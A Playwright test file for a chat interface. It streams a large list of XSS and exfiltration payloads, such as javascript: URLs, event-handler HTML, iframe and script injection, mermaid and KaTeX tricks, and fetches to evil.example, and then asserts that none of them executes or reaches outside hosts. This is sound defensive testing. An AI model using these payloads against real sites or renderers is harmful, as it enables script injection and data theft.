import { expect, type Page, test } from '@playwright/test';
import { ended, openChat, say, thread } from './pages';
import { reset, script } from './rig';

test.beforeEach(reset);

/** Where nothing may go. */
const AWAY = 'https://evil.example';
const BAD = "window.__bad=(window.__bad||0)+1;fetch('https://evil.example/js')";

/** What a model, or whoever speaks through it, may try. */
function payloads(): string[] {
  const urls = [
    `javascript:${BAD}`,
    `JaVaScRiPt:${BAD}`,
    `java\tscript:${BAD}`,
    `&#106;avascript:${BAD}`,
    `vbscript:msgbox`,
    `data:text/html,<script>${BAD}</script>`,
    `data:image/svg+xml,<svg onload="${BAD}"/>`,
    'blob:https://evil.example/1',
    'file:///etc/passwd',
    `${AWAY}/x`,
    '//evil.example/x',
    '\\\\evil.example\\x',
    `${AWAY}/x.png?secret=1`,
  ];
  const links = urls.flatMap((url) => [
    `[link](${url})`,
    `[link](<${url}>)`,
    `![picture](${url})`,
    `<${url}>`,
    `[ref][r]\n\n[r]: ${url}`,
    `![ref][p]\n\n[p]: ${url} "title"`,
    `[![inside](${url})](${url})`,
  ]);
  const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin'];
  const html = events.flatMap((event) => [
    `<img src=x ${event}="${BAD}">`,
    `<svg ${event}="${BAD}"><animate ${event}="${BAD}"/></svg>`,
    `<details open ${event}="${BAD}">x</details>`,
    `<input autofocus ${event}="${BAD}">`,
    `<video src="${AWAY}/v" ${event}="${BAD}"></video>`,
  ]);
  const elements = [
    `<script>${BAD}</script>`,
    `<script src="${AWAY}/s.js"></script>`,
    `<iframe src="${AWAY}"></iframe>`,
    `<iframe srcdoc="<script>parent.${BAD}</script>"></iframe>`,
    `<object data="${AWAY}/o"></object>`,
    `<embed src="${AWAY}/e">`,
    `<link rel="stylesheet" href="${AWAY}/c.css">`,
    `<link rel="prefetch" href="${AWAY}/p">`,
    `<style>@import "${AWAY}/i.css"; * { background: url(${AWAY}/b) }</style>`,
    `<base href="${AWAY}/">`,
    `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
    `<form action="${AWAY}"><button>go</button></form>`,
    `<a href="javascript:${BAD}" style="position:fixed;inset:0">x</a>`,
    `<div style="background:url(${AWAY}/d)">x</div>`,
    `<picture><source srcset="${AWAY}/q"><img src="${AWAY}/r"></picture>`,
    `<math><mtext><script>${BAD}</script></mtext></math>`,
    `<template><script>${BAD}</script></template>`,
    `<noscript><img src="${AWAY}/n"></noscript>`,
    `<x-y onclick="${BAD}">x</x-y>`,
    `<!--><script>${BAD}</script>-->`,
    `<![CDATA[<script>${BAD}</script>]]>`,
  ];
  const formulas = [
    `$$\\href{javascript:${BAD}}{x}$$`,
    `$$\\url{${AWAY}}$$`,
    `$$\\includegraphics{${AWAY}/k.png}$$`,
    `$$\\htmlClass{x}{y}\\htmlStyle{background:url(${AWAY}/h)}{z}$$`,
    `$$\\htmlData{onclick=${BAD}}{z}$$`,
    `$\\def\\a{\\a\\a}\\a$`,
  ];
  const diagrams = [
    `graph TD\n A["<img src=x onerror='${BAD}'>"]`,
    `graph TD\n A[x]\n click A "javascript:${BAD}"`,
    `graph TD\n A[x]\n click A href "${AWAY}" _blank`,
    `%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "* { background: url(${AWAY}/t) }"}}%%\ngraph TD\n A["<script>${BAD}</script>"]`,
    `graph TD\n A["<iframe src='${AWAY}'></iframe>"]`,
    `graph TD\n A@{ img: "${AWAY}/m.png", label: "x" }`,
    `sequenceDiagram\n A->>B: <img src="${AWAY}/s">`,
    `classDiagram\n class A\n link A "${AWAY}"`,
    `gantt\n section x\n a :a1, 2014-01-01, 1d\n click a1 href "${AWAY}"`,
  ].map((code) => `\`\`\`mermaid\n${code}\n\`\`\``);
  const inCode = ['html', 'svg', 'xml', 'javascript', 'vega', 'css'].map(
    (language) => `\`\`\`${language}\n<script>${BAD}</script><img src="${AWAY}/${language}">\n\`\`\``,
  );
  const names = [`\`\`\`"><img src=x onerror=${BAD}>\nx\n\`\`\``, `| a |\n|---|\n| <img src="${AWAY}/t"> |`];
  return [...links, ...html, ...elements, ...formulas, ...diagrams, ...inCode, ...names];
}

/** Not in the page and not in the frame of a diagram. */
async function nothingRan(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    const ran = frame.evaluate(() => (window as unknown as { __bad?: number }).__bad ?? 0);
    // The list takes a diagram away that is out of sight.
    expect(await ran.catch((reason: unknown) => (frame.isDetached() ? 0 : Promise.reject(reason)))).toBe(0);
  }
}

test('whatever a model writes does nothing and asks for nothing, while it streams and after', async ({
  page,
  context,
}) => {
  test.setTimeout(300_000);
  const all = payloads();
  expect(all.length).toBeGreaterThanOrEqual(170);
  const origin = new URL(test.info().project.use.baseURL ?? '').origin;
  const away: string[] = [];
  // What the policy of a page holds back never comes here.
  await context.route(
    (url) => url.origin !== origin,
    (route) => {
      away.push(route.request().url());
      return route.abort();
    },
  );
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const chat = await openChat(page, 'Inert');
  const each = 15;
  for (let from = 0; from < all.length; from += each) {
    const text = `${all.slice(from, from + each).join('\n\n')}\n\nend of ${from}`;
    // In pieces that cut through tags and addresses.
    const chunks = text.match(/[\s\S]{1,37}/g) ?? [];
    await script({ chunks });
    await say(page, `Payloads ${from}`);
    await ended(page);
    await expect(thread(page)).toContainText(`end of ${from}`);
  }
  // And from the history, and from the diagrams, which are drawn when they are seen.
  await page.goto(chat);
  const log = thread(page);
  await expect(log).toContainText('end of');
  for (let i = 0; i < 60; i += 1) {
    await log.evaluate((element) => element.scrollBy(0, -element.clientHeight));
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    await nothingRan(page);
  }
  await nothingRan(page);
  expect(away).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(page.url()).toBe(chat);
  // No element that can load or run is there, but our own frames.
  expect(
    await log.evaluate(
      (element) =>
        element.querySelectorAll(
          'script,object,embed,link,style,base,meta,form,video,audio,source,img,iframe:not([sandbox="allow-scripts"]),[onload],[onerror],[onclick],[href^="javascript" i],[href^="data" i]',
        ).length,
    ),
  ).toBe(0);
});
